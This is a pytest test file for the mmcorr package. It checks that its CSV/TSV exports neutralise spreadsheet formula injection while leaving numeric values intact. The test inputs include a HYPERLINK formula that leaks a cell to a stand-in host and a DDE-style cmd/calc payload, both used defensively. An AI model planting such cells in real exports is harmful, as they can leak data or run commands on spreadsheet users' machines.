"""Spreadsheet formula injection (issue 14, item 9): every CSV mmcorr writes quotes text cells that a
spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, a leading tab or carriage return),
and leaves numbers numbers.

The writers: ``mmcorr predict --out x.csv / x.tsv`` (tested end to end on a fitted model), and the
Explore downloads (latents, top feature pairs, lasso selection), which call the same
:func:`mmcorr.data.csv_text`; a scan of every source file keeps any other ``to_csv`` out.
"""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from mmcorr.data import FORMULA_PREFIXES, csv_text, spreadsheet_safe

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _rows(text: str, sep: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


@pytest.mark.parametrize(
    "cell",
    [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_a_formula_cell_is_quoted(cell: str) -> None:
    rows = _rows(csv_text(pd.DataFrame({"id": [cell, "s1"], "x": [1.0, 2.0]})))
    assert rows[1][0] == "'" + cell
    assert rows[2][0] == "s1"


def test_every_formula_prefix_is_covered() -> None:
    cells = [f"{p}x" for p in FORMULA_PREFIXES]
    safe = spreadsheet_safe(pd.DataFrame({"id": cells}))
    assert safe["id"].tolist() == [f"'{c}" for c in cells]


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"id": ["-5", "+1.5e3", "s-1"], "corr": [-0.5, 0.25, -1e-3], "n": [-3, 0, 4]})
    rows = _rows(csv_text(frame))
    # a signed number as text is read by a spreadsheet as that number, never as a formula
    assert [r[0] for r in rows[1:]] == ["-5", "+1.5e3", "s-1"]
    assert [float(r[1]) for r in rows[1:]] == [-0.5, 0.25, -1e-3]
    assert [r[2] for r in rows[1:]] == ["-3", "0", "4"]


def test_column_names_index_and_categories_are_quoted_too() -> None:
    frame = pd.DataFrame(
        {"=cmd": [1.0], "label": pd.Categorical(["@evil"])}, index=pd.Index(["-x"], name="id")
    )
    rows = _rows(csv_text(frame, sep="\t", index=True), sep="\t")
    assert rows == [["id", "'=cmd", "label"], ["'-x", "1.0", "'@evil"]]


def test_missing_text_cells_stay_empty() -> None:
    rows = _rows(csv_text(pd.DataFrame({"label": ["=a", None, np.nan]})))
    assert rows == [["label"], ["'=a"], [""], [""]]


def _to_csv_calls(path: Path) -> list[int]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return [
        node.lineno
        for node in ast.walk(tree)
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "to_csv"
    ]


def test_no_csv_writer_bypasses_csv_text() -> None:
    # mmcorr.data.export is the one writer; `mmcorr data demo` writes our own demo tables (ids
    # s0000..., numeric features, integer labels), which hold nothing a spreadsheet would run.
    allowed = {ROOT / "mmcorr/data/export.py", ROOT / "mmcorr/_cli/data.py"}
    files = [*sorted((ROOT / "mmcorr").rglob("*.py")), *sorted((ROOT / "pages").rglob("*.py"))]
    bypass = {str(f.relative_to(ROOT)): _to_csv_calls(f) for f in files if f not in allowed}
    assert {f: lines for f, lines in bypass.items() if lines} == {}
    assert _to_csv_calls(ROOT / "pages/explore.py") == []
    assert "csv_text" in (ROOT / "pages/explore.py").read_text(encoding="utf-8")


# -- mmcorr predict --out x.csv, end to end ------------------------------------------------------


@pytest.fixture(scope="module")
def fitted_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A cca model fitted on a (40 samples) and b, whose feature names begin with = - + @."""
    torch = pytest.importorskip("torch")
    from mmcorr.data import load_paired
    from mmcorr.estimator import CorrelationModel

    torch.set_num_threads(1)
    root = tmp_path_factory.mktemp("predict")
    rng = np.random.default_rng(0)
    z = rng.normal(size=(40, 2))
    ids = [f"s{i:02d}" for i in range(40)]
    a = pd.DataFrame(z @ rng.normal(size=(2, 4)) + 0.1 * rng.normal(size=(40, 4)), columns=list("pqrs"))
    b = pd.DataFrame(z @ rng.normal(size=(2, 4)), columns=["=b0", "-b1", "+b2", "@b3"])
    a.insert(0, "id", ids)
    b.insert(0, "id", ids)
    a.to_csv(root / "a.csv", index=False)
    b.to_csv(root / "b.csv", index=False)
    ds, _ = load_paired({"a": root / "a.csv", "b": root / "b.csv"})
    run = root / "run"
    CorrelationModel(model="cca", latent_dim=2, device="cpu").fit(ds).save(run)
    (run / "metrics.json").write_text("{}", encoding="utf-8")  # predict reads only the model
    yield run


@pytest.mark.parametrize("ext", ["csv", "tsv"])
def test_predict_quotes_formula_ids_and_feature_names(fitted_run: Path, tmp_path: Path, ext: str) -> None:
    from mmcorr.cli import main

    hostile = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "-7", "s00"]
    frame = pd.DataFrame(np.random.default_rng(1).normal(size=(6, 4)), columns=list("pqrs"))
    frame.insert(0, "id", hostile)
    source = tmp_path / "new.csv"
    frame.to_csv(source, index=False)
    out = tmp_path / f"pred.{ext}"
    argv = ["predict", "--run", str(fitted_run), "--from", f"a={source}", "--to", "b", "--out", str(out)]
    assert main(argv) == 0
    rows = _rows(out.read_text(encoding="utf-8"), sep="\t" if ext == "tsv" else ",")
    assert rows[0] == ["id", "'=b0", "'-b1", "'+b2", "'@b3"]
    assert [r[0] for r in rows[1:]] == [f"'{HYPERLINK}", "'+1+1", "'-2+3", "'@SUM(A1)", "-7", "s00"]
    values = np.array([[float(v) for v in r[1:]] for r in rows[1:]])
    assert (values < 0).any()  # negative predictions are written as plain numbers


def test_the_tables_own_csv_export_is_off() -> None:
    # Streamlit's table toolbar writes cells unchanged; only our spreadsheet-safe downloads remain.
    import tomllib

    config = tomllib.loads((Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
